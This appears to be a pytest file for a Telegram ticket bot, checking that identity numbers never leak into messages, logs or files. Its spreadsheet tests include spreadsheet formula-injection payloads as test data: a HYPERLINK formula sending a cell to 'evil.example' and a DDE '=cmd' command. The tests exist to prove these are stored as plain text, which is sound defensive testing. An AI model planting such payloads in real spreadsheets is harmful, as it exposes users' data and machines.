"""Issue E: personal data never leaks, and no input can wedge the bot (SPEC §3, §4).

Every leak is tried through the real application and the strict fake Bot API; the checks
on what went out are the test's own (they do not reuse the bot's detector).
"""

from __future__ import annotations

import io
import json
import logging
import os
import re
import stat
import unicodedata
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.conftest import VALID_FORM, form
from ticketbot.config import ConfigError, parse_config
from ticketbot.domain.privacy import (
    carries_full_number,
    clean_text,
    clip_utf16,
    redact_log,
    redact_numbers,
    utf16_len,
)
from ticketbot.emulator.simulation import (
    ADB,
    GROUP_ID,
    KASI,
    STAF,
    TZ,
    Simulation,
    office_settings,
)
from ticketbot.logs import setup_logging
from ticketbot.store import Stores
from ticketbot.xlsx import RecapRow, recap_workbook, sheet_text

SECRET = "1273010703850903"  # a made-up NIK, never the ticket's own
ARABIC_INDIC = "٠١٢٣٤٥٦٧٨٩"
FULL_WIDTH = "０１２３４５６７８９"
FORMATS = {
    "plain": SECRET,
    "spaces": "1273 0107 0385 0903",
    "dots": "1273.0107.0385.0903",
    "dashes": "1273-0107-0385-0903",
    "slashes": "1273/0107/0385/0903",
    "zero-width": "\u200b".join(SECRET[i : i + 4] for i in range(0, 16, 4)),
    "soft-hyphen": "\u00ad".join(SECRET[i : i + 2] for i in range(0, 16, 2)),
    "full-width": "".join(FULL_WIDTH[int(d)] for d in SECRET),
    "arabic-indic": "".join(ARABIC_INDIC[int(d)] for d in SECRET),
    "en-dash": "1273–0107–0385–0903",
}
PHONE_DIGITS = ("81234567890",)  # the form's phone, in any prefix


def squash(text: str) -> str:
    """Digits as ASCII with everything that is neither letter nor digit removed, and
    repr()'s escapes of invisible characters dropped: a number however it is written."""
    text = re.sub(r"\\u[0-9a-fA-F]{4}|\\x[0-9a-fA-F]{2}", "", unquote(text))
    out = []
    for c in text:
        if c.isdecimal():
            out.append(str(unicodedata.digit(c)))
        elif c.isalpha():
            out.append(" ")
    return "".join(out)


def bot_output(sim: Simulation) -> Iterator[str]:
    """Every text, button label and URL the bot sent or edited into a chat (not the NIK
    pop-up, which shows the full number to the presser alone by design)."""
    for call in sim.api.calls_of("sendMessage", "editMessageText", "sendPhoto"):
        yield str(call.params.get("text") or call.params.get("caption") or "")
        yield json.dumps(call.params.get("reply_markup"), ensure_ascii=False)


def assert_never_sent(sim: Simulation, secret: str = SECRET) -> None:
    for text in bot_output(sim):
        assert secret not in squash(text), text


# -- the one definition (pure) -----------------------------------------------------------


@pytest.mark.parametrize("written", FORMATS.values(), ids=FORMATS.keys())
def test_every_way_of_writing_a_number_is_one(written: str) -> None:
    text = f"Keterangan: NIK lama {written} tidak terbaca"
    assert carries_full_number(text)
    assert SECRET not in squash(redact_numbers(text))
    assert SECRET not in squash(redact_log(repr(text)))


@pytest.mark.parametrize(
    "text",
    ["Antrian 12 tanggal 24-11-2026 jam 10.30", "HP 0812-3456-7890", "127301******0903",
     "1273 0107 0385 090", "Tiket #1234567"],
)  # fmt: skip
def test_shorter_numbers_are_not_full_ones(text: str) -> None:
    assert not carries_full_number(text)
    assert redact_numbers(text) == text


separators = st.text(alphabet=" .-/\u200b\u00ad\u2013\u2060\ufeff\u3000\xa0", max_size=2)


@given(
    digits=st.text(alphabet="0123456789", min_size=16, max_size=16),
    glue=st.lists(separators, min_size=15, max_size=15),
    script=st.sampled_from(["0123456789", FULL_WIDTH, ARABIC_INDIC, "०१२३४५६७८९"]),
    before=st.text(alphabet="abc ", max_size=5),
)
def test_any_sixteen_digits_in_any_script_and_spacing_are_caught(
    digits: str, glue: list[str], script: str, before: str
) -> None:
    written = "".join(script[int(d)] + g for d, g in zip(digits, [*glue, ""], strict=True))
    text = before + written + " x"
    assert carries_full_number(text)
    assert digits not in squash(redact_numbers(text))
    assert digits not in squash(redact_log(repr(text)))


@given(st.text())
def test_cleaned_text_has_no_control_or_bidi_characters(text: str) -> None:
    for multiline in (False, True):
        cleaned = clean_text(text, multiline=multiline)
        for c in cleaned:
            assert unicodedata.category(c) not in ("Cc", "Cs") or (multiline and c == "\n")
            assert c not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
        assert clean_text(cleaned, multiline=multiline) == cleaned


@given(st.text(), st.integers(min_value=0, max_value=50))
def test_clip_counts_utf16_units_and_never_splits_a_character(text: str, limit: int) -> None:
    clipped = clip_utf16(text, limit)
    assert utf16_len(clipped) <= limit and text.startswith(clipped)
    if utf16_len(text) > limit:
        assert utf16_len(text[: len(clipped) + 1]) > limit


# -- free text at the door ---------------------------------------------------------------


@pytest.mark.parametrize("field", ["keterangan", "nama", "lembaga"])
@pytest.mark.parametrize("written", FORMATS.values(), ids=FORMATS.keys())
async def test_a_number_in_a_free_text_field_is_refused_and_deleted(
    sim: Simulation, field: str, written: str
) -> None:
    text = form(**({} if field == "nama" else {field: f"ada {written} di sini"}))
    if field == "nama":
        text += f"\nNama: Budi {written}"
    intake = await sim.say(STAF, text)
    assert await sim.office.repo.tickets.count_tickets() == 0
    reply = sim.last_bot_message().plain or ""
    assert "tidak boleh memuat NIK/KK lengkap" in reply and "belum dibuat" in reply
    assert sim.message(intake).deleted
    assert_never_sent(sim)


async def test_invalid_duplicate_photo_and_edited_intakes_are_all_deleted(
    sim: Simulation,
) -> None:
    # Invalid (a landline) but carrying the full NIK and KK.
    invalid = await sim.say(STAF, form(hp="0631 21799"))
    assert sim.message(invalid).deleted
    # Valid, then the same again: a duplicate.
    first = await sim.say(STAF, VALID_FORM)
    duplicate = await sim.say(STAF, VALID_FORM)
    assert sim.message(first).deleted and sim.message(duplicate).deleted
    assert "Tiket #1" in (sim.last_bot_message().plain or "")
    # An invalid photo caption.
    photo = await sim.say(STAF, form(kk="12"), photo=True)
    assert sim.message(photo).deleted
    # An intake with no full number (NIK cut short) is answered and stays; once edited to
    # the whole form it opens a ticket and is deleted.
    short = form(nik="127301450685", kk="", lembaga="Bank")
    draft = await sim.say(STAF, short)
    assert not sim.message(draft).deleted
    await sim.edit(draft, form(nik="1273016902000002", kk="1273010101090004", lembaga="Bank"))
    assert sim.message(draft).deleted
    assert await sim.office.repo.tickets.count_tickets() == 2
    for number in ("1273014506850001", "1273010101090003", "1273016902000002"):
        assert_never_sent(sim, number)
    assert [d.params["message_id"] for d in sim.api.calls_of("deleteMessage")] == [
        str(m) for m in (invalid, first, duplicate, photo, draft)
    ]


@pytest.mark.parametrize("written", FORMATS.values(), ids=FORMATS.keys())
async def test_a_reason_carrying_a_number_is_refused_never_stored(
    sim: Simulation, written: str
) -> None:
    await sim.say(STAF, VALID_FORM)
    card = sim.last_bot_message().message_id
    await sim.tap(KASI, card, "Tolak")
    reply = await sim.say(KASI, f"KK salah, yang benar {written}", reply_to=card)
    assert sim.message(reply).deleted
    ticket = await sim.office.repo.tickets.get_ticket(1)
    assert ticket is not None and ticket.state == "new" and ticket.reject_reason is None
    details = [e.detail or "" for e in await sim.office.repo.events.events_for(1)]
    assert all(SECRET not in squash(d) for d in details)
    assert "tidak boleh memuat NIK/KK lengkap" in (sim.last_bot_message().plain or "")
    assert_never_sent(sim)


async def test_status_with_a_written_out_nik_is_answered_masked_and_deleted(
    sim: Simulation,
) -> None:
    await sim.say(STAF, VALID_FORM)
    asked = await sim.say(STAF, "/status 1273\u200b0145\u200b0685\u200b0001")
    assert "Tiket #1" in (sim.last_bot_message().plain or "")
    assert sim.message(asked).deleted
    assert_never_sent(sim, "1273014506850001")


async def test_control_and_bidi_characters_never_reach_storage(sim: Simulation) -> None:
    await sim.say(STAF, form(keterangan="P-Care\x01 gagal \u202eterbalik\u202c\tsekali"))
    ticket = await sim.office.repo.tickets.get_ticket(1)
    assert ticket is not None
    assert ticket.keterangan == "P-Care gagal terbalik sekali"


async def test_old_records_are_masked_on_every_surface(sim: Simulation) -> None:
    """A record stored before the door checked free text: the card, /status, /antrian
    and the WhatsApp link still never show its number (the last door is telegram_io)."""
    await sim.say(STAF, VALID_FORM)
    card = sim.last_bot_message().message_id
    await sim.tap(KASI, card, "Tolak")
    await sim.say(KASI, "Alasan biasa", reply_to=card)
    await sim.office.repo.db.conn.execute(
        "UPDATE tickets SET keterangan = ?, nama = ?, reject_reason = ? WHERE id = 1",
        (f"lama {FORMATS['dots']}", f"Budi {FORMATS['slashes']}",
         f"KK {FORMATS['zero-width']}"),
    )  # fmt: skip
    await sim.say(STAF, "/status #1")
    await sim.say(STAF, "/antrian")
    await sim.tap(STAF, card, "Diinformasikan")
    urls = [
        b["url"]
        for call in sim.api.calls_of("sendMessage", "editMessageText")
        for row in (call.params.get("reply_markup") or {}).get("inline_keyboard", [])
        for b in row
        if "url" in b
    ]
    assert urls, "the rejected card had a WhatsApp button"
    assert_never_sent(sim)


async def test_display_names_are_cleaned_and_masked(sim: Simulation) -> None:
    sim.api.add_user(STAF.user_id, f'=HYPERLINK("http://x") {SECRET}\u202e', "\x07Staf")
    await sim.say(STAF, VALID_FORM)
    [event] = await sim.office.repo.events.events_for(1)
    assert event.actor_name == '=HYPERLINK("http://x") 127301******0903 Staf'
    assert_never_sent(sim)


# -- the recap spreadsheet ---------------------------------------------------------------

TYPED = [
    '=HYPERLINK("http://evil.example/?x="&B3,"Klik di sini")',
    "+62 812 dan seterusnya",
    "-1+2",
    "@SUM(A1:A9)",
    "\tdiawali tab",
    "\rdiawali CR",
    "=1+1",
    "  spasi di depan dan belakang  ",
    "kendali \x01\x02\x1b di tengah",
    "biasa saja",
]


def test_xlsx_cells_are_literal_strings_never_formulas() -> None:
    moment = datetime(2026, 11, 24, 9, 0, tzinfo=TZ)
    rows = [
        RecapRow(
            ticket_id=i + 1, nik="1273014506850001", kk="1273010101090003", nama=typed,
            lembaga=typed, keterangan=typed, opened_at=moment, opened_by=typed,
            verified_at=moment, verified_by="=cmd|' /C calc'!A0", synced_at=None,
            synced_by=typed,
        )
        for i, typed in enumerate(TYPED)
    ]  # fmt: skip
    sheet = load_workbook(io.BytesIO(recap_workbook(rows, "=judul"))).active
    assert [c.value for c in sheet[1]][:3] == ["No. Tiket", "NIK", "No. KK"]
    for typed, line in zip(TYPED, sheet.iter_rows(min_row=2), strict=True):
        assert all(c.data_type != "f" for c in line)
        for column in (3, 4, 5, 7, 11):  # nama, lembaga, keterangan, by, synced by
            cell = line[column]
            assert cell.data_type == "s" and cell.value == sheet_text(typed)
            if not any(unicodedata.category(c) == "Cc" and c not in "\t" for c in typed):
                assert cell.value == typed  # exactly as typed
        assert line[9].value == "=cmd|' /C calc'!A0" and line[9].data_type == "s"
        assert line[1].value == "1273014506850001" and line[1].data_type == "s"
    # Tab and CR: XML keeps the tab; a CR is a line break in XML, so it reads back as one.
    assert sheet_text("\rdiawali CR") == "\ndiawali CR"
    assert sheet_text("kendali \x01\x02\x1b di tengah") == "kendali  di tengah"


async def test_formula_text_in_a_ticket_is_delivered_as_text(sim: Simulation) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&B3,"Klik di sini")\x01'
    await sim.say(STAF, form(keterangan=evil))
    card = sim.last_bot_message().message_id
    await sim.tap(KASI, card, "Verifikasi")
    await sim.tap(ADB, card, "Konsolidasi")
    sim.clock.now = sim.clock.now.replace(hour=15, minute=0)
    await sim.run_jobs()
    [received] = sim.smtp.received
    xlsx = next(received.message.iter_attachments()).get_content()
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cell = sheet.cell(row=2, column=6)
    assert cell.data_type == "s" and cell.value == evil.rstrip("\x01")
    ticket = await sim.office.repo.tickets.get_ticket(1)
    assert ticket is not None and ticket.state == "sent_to_dwh"


async def test_a_batch_that_cannot_be_built_is_reported_once_and_later_ones_go(
    sim: Simulation, monkeypatch: pytest.MonkeyPatch
) -> None:
    import ticketbot.recap as recap

    real = recap.recap_workbook

    def broken(rows: list[RecapRow], title: str) -> bytes:
        raise ValueError("a writer bug")

    monkeypatch.setattr(recap, "recap_workbook", broken)
    await sim.say(STAF, VALID_FORM)
    card = sim.last_bot_message().message_id
    await sim.tap(KASI, card, "Verifikasi")
    await sim.tap(ADB, card, "Konsolidasi")
    sim.clock.now = sim.clock.now.replace(hour=15, minute=0)
    await sim.run_jobs()
    sim.clock.advance(minutes=5)
    await sim.run_jobs()  # a second tick tells nobody again
    notices = [m for m in sim.api.visible(GROUP_ID) if "tidak dapat disusun" in (m.plain or "")]
    assert len(notices) == 1
    assert "Error" not in (notices[0].plain or "") and "writer bug" not in (notices[0].plain or "")
    assert sim.smtp.received == []
    # Fixed (say, an upgrade): /rekap kirim retries it and it goes.
    monkeypatch.setattr(recap, "recap_workbook", real)
    await sim.say(KASI, "/rekap kirim")
    assert len(sim.smtp.received) == 1


# -- logs ---------------------------------------------------------------------------------


async def test_a_whole_office_day_at_debug_logs_no_nik_kk_phone_or_name(tmp_path: Path) -> None:
    stream = io.StringIO()
    handler = setup_logging(logging.DEBUG, stream)
    root_level = logging.getLogger().level
    numbers = ["1273014506850001", "1273010101090003", "1273016902000002", "1273010101090004"]
    try:
        async with Simulation(tmp_path) as sim:
            await sim.say(STAF, form(nik="1273.0145.0685.0001", kk="1273 0101 0109 0003",
                                     hp="+62 812-3456-7890") + "\nNama: Zulaikha Siregar")  # fmt: skip
            await sim.say(STAF, form(nik="1273\u200b0169\u200b0200\u200b0002",
                                     kk="1273-0101-0109-0004", lembaga="Bank"))  # fmt: skip
            await sim.say(STAF, form(hp="0631 21799"))  # invalid: refused
            await sim.say(STAF, form(keterangan=f"NIK lain {FORMATS['full-width']}"))
            first, second = (
                t.card_message_id
                for t in [await sim.office.repo.tickets.get_ticket(i) for i in (1, 2)]
                if t is not None
            )
            for card in (first, second):
                await sim.tap(KASI, card, "NIK")
                await sim.tap(KASI, card, "Verifikasi")
                await sim.tap(ADB, card, "Konsolidasi")
            await sim.say(STAF, "/status 1273.0145.0685.0001")
            await sim.say(STAF, "/antrian")
            sim.clock.now = sim.clock.now.replace(hour=15, minute=0)
            await sim.run_jobs()
            summary = sim.last_bot_message().message_id
            await sim.tap(ADB, summary, "DWH")
            for card in (first, second):
                await sim.tap(STAF, card, "Diinformasikan")
            assert len(sim.smtp.received) == 1
    finally:
        logging.getLogger().removeHandler(handler)
        logging.getLogger().setLevel(root_level)
    log = stream.getvalue()
    assert "DEBUG telegram" in log  # the library did log whole updates
    # aiosqlite would log every statement with its parameters: it is kept to INFO.
    assert "DEBUG aiosqlite" not in log
    assert "Zulaikha" not in log and "Nama: <…>" in log and "'first_name': '<…>'" in log
    flat = squash(log)
    for number in [*numbers, SECRET]:
        assert number not in flat
    for phone in PHONE_DIGITS:
        assert phone not in flat


# -- files and the mail server ----------------------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def test_database_side_files_and_backups_are_owner_only(
    tmp_path: Path, umask_022: None
) -> None:
    legacy = tmp_path / "old.sqlite3"
    legacy.write_bytes(b"")
    legacy.chmod(0o644)
    for path in (tmp_path / "office.sqlite3", legacy):
        repo = await Stores.open(path)
        try:
            await repo.people.remember_person(1, "Sari", datetime.now(TZ))
            side = [Path(f"{path}-wal"), Path(f"{path}-shm")]
            assert all(p.exists() for p in side)
            assert [mode(p) for p in (path, *side)] == [0o600, 0o600, 0o600]
            await repo.db.backup_to(tmp_path / f"{path.stem}-backup.sqlite3")
        finally:
            await repo.close()
        assert mode(tmp_path / f"{path.stem}-backup.sqlite3") == 0o600


def test_smtp_login_over_plaintext_is_refused(tmp_path: Path) -> None:
    data = office_settings("http://127.0.0.1:1/bot", "123456:TEST-aaaaaaaaaaaaaaaaaaaaaaaa",
                           tmp_path / "db.sqlite3", 25, smtp__username="dinas")  # fmt: skip
    with pytest.raises(ConfigError) as error:
        parse_config(data, {}, tmp_path)
    assert error.value.problems == [
        'smtp.username: would send the password unencrypted; use security = "starttls" or "tls"'
    ]
